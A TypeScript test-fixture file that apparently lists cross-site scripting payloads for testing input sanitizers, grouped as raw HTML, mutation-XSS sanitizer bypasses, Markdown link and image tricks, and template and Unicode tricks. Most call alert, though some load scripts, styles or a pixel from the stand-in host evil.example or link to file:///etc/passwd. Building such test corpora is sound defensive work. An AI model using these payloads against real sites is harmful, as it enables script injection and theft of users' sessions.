/**
 * Texts that try to run a script, to leave the app or to read as something else, wherever somebody writes and somebody else reads:
 * nickname, chat, feedback, news, questions, file names, operators' output. Each that ran would call `alert`.
 */
interface XssPayload {
  /** Names the trick, for the test's title. */
  name: string;
  text: string;
}

/** Markup as HTML. */
const HTML: readonly XssPayload[] = [
  { name: 'script', text: '<script>alert(1)</script>' },
  { name: 'script by address', text: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script after a closed attribute', text: '"><script>alert(1)</script>' },
  { name: 'script in capitals, half closed', text: '<ScRiPt >alert(1)</sCrIpT\t\n bar>' },
  { name: 'script that comes together when another goes', text: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'image that fails', text: '<img src=x onerror=alert(1)>' },
  { name: 'image without blanks', text: '<img/src="x"/onerror=alert(1)//' },
  { name: 'svg that loads', text: '<svg onload=alert(1)>' },
  { name: 'svg with a script', text: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg that animates a link',
    text: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  },
  { name: 'math with a link', text: '<math href="javascript:alert(1)">click</math>' },
  { name: 'iframe with a document', text: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>' },
  { name: 'object', text: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
  { name: 'embed', text: '<embed src="javascript:alert(1)">' },
  { name: 'form with a handler', text: '<form action="javascript:alert(1)"><button>pay</button></form>' },
  { name: 'details that toggle', text: '<details open ontoggle=alert(1)>x</details>' },
  { name: 'field that takes the focus', text: '<input autofocus onfocus=alert(1)>' },
  {
    name: 'style that loads',
    text: '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  },
  {
    name: 'style attribute over everything',
    text: '<div style="position:fixed;inset:0;background:url(//evil.example/x)">x</div>',
  },
  { name: 'meta that leads away', text: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base', text: '<base href="https://evil.example/">' },
  { name: 'link to a style sheet', text: '<link rel=stylesheet href="https://evil.example/x.css">' },
  {
    name: 'clobbered names',
    text: '<form id=body><input name=attributes><input name=nodeName></form><img name=cookie id=location>',
  },
];

/** Markup that changes when it is parsed a second time. */
const MUTATIONS: readonly XssPayload[] = [
  { name: 'mutation by noscript', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  {
    name: 'mutation by math and style',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  { name: 'mutation by svg and style', text: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  {
    name: 'mutation by a template',
    text: '<template><s><template><s><img src=x onerror=alert(1)>@shadow</s></template></s></template>',
  },
  {
    name: 'mutation by a form in a form',
    text: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  { name: 'comment that ends early', text: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'comment with a condition', text: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->' },
  { name: 'CDATA', text: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  {
    name: 'processing instruction',
    text: '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
  },
  { name: 'title that swallows', text: '<title><a href="</title><img src=x onerror=alert(1)>">' },
  {
    name: 'entities in place of signs',
    text: '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  },
];

/** Links and pictures as Markdown. */
const MARKDOWN: readonly XssPayload[] = [
  { name: 'Markdown link to a script', text: '[click](javascript:alert(1))' },
  { name: 'Markdown link with entities', text: '[click](&#106;avascript&colon;alert(1))' },
  { name: 'Markdown link with a tab', text: '[click](<java\tscript:alert(1)>)' },
  { name: 'Markdown link with a leading control character', text: '[click](\u0001javascript:alert(1))' },
  { name: 'Markdown link in capitals', text: '[click](JaVaScRiPt:alert(1))' },
  { name: 'Markdown link to data', text: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'Markdown link to vbscript', text: '[click](vbscript:msgbox(1))' },
  { name: 'Markdown link to a file', text: '[click](file:///etc/passwd)' },
  { name: 'Markdown link to a blob', text: '[click](blob:https://evil.example/1)' },
  { name: 'Markdown link without a scheme', text: '[click](//evil.example/x)' },
  { name: 'Markdown link with backslashes', text: '[click](\\\\evil.example\\x)' },
  { name: 'Markdown link with a password', text: '[click](https://rab.example:443@evil.example/)' },
  { name: 'Markdown link that closes the attribute', text: '[click](https://x.example/"onmouseover="alert(1))' },
  { name: 'Markdown title that closes the attribute', text: '[click](https://x.example/ \'" onmouseover="alert(1)\')' },
  { name: 'Markdown autolink to a script', text: '<javascript:alert(1)>' },
  { name: 'Markdown reference to a script', text: '[click][1]\n\n[1]: javascript:alert(1)' },
  { name: 'Markdown image of a script', text: '![x](javascript:alert(1))' },
  { name: 'Markdown image of another host', text: '![x](https://evil.example/pixel.png)' },
  { name: 'Markdown image that closes the attribute', text: '![x" onerror="alert(1)](y)' },
  {
    name: 'Markdown image of data',
    text: '![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>)',
  },
  { name: 'Markdown code with markup', text: '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```' },
  {
    name: 'Markdown with markup in a table',
    text: '| a |\n| - |\n| <img src=x onerror=alert(1)> [c](javascript:alert(1)) |',
  },
];

/** Templates of frameworks and languages, and characters that hide or turn a text. */
const CHARACTERS: readonly XssPayload[] = [
  { name: 'template of Vue and Angular', text: "{{constructor.constructor('alert(1)')()}}" },
  { name: 'template of JavaScript', text: '${alert(1)} `${alert(1)}`' },
  { name: 'template of a server', text: '<%= alert(1) %> #{alert(1)} {% raw %}<script>alert(1)</script>' },
  { name: 'right-to-left override', text: 'pay \u202Egpj.exe\u202C now' },
  { name: 'isolates that turn the rest', text: '\u2067alert(1)\u2066<script>\u2069' },
  { name: 'zero width in a tag', text: '<scr\u200Bipt>alert(1)</scr\uFEFFipt>' },
  { name: 'control characters', text: 'a\u0000b\u0007c\u001B[31mred\u001B[0m\u009B31m\u007F' },
  { name: 'line and paragraph separators', text: 'one\u2028alert(1)\u2029two' },
  { name: 'full-width signs', text: '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E' },
  { name: 'lone surrogate', text: '\uD800<img src=x onerror=alert(1)>' },
  { name: 'formula of a spreadsheet', text: '=HYPERLINK("javascript:alert(1)","x")' },
];

export const XSS_CORPUS: readonly XssPayload[] = [...HTML, ...MUTATIONS, ...MARKDOWN, ...CHARACTERS];

/** The whole corpus as one text, a paragraph each, with a number before each so that none swallows the next unseen. */
export const XSS_TEXT: string = XSS_CORPUS.map(({ text }, index) => `No. ${index + 1}\n\n${text}`).join('\n\n');
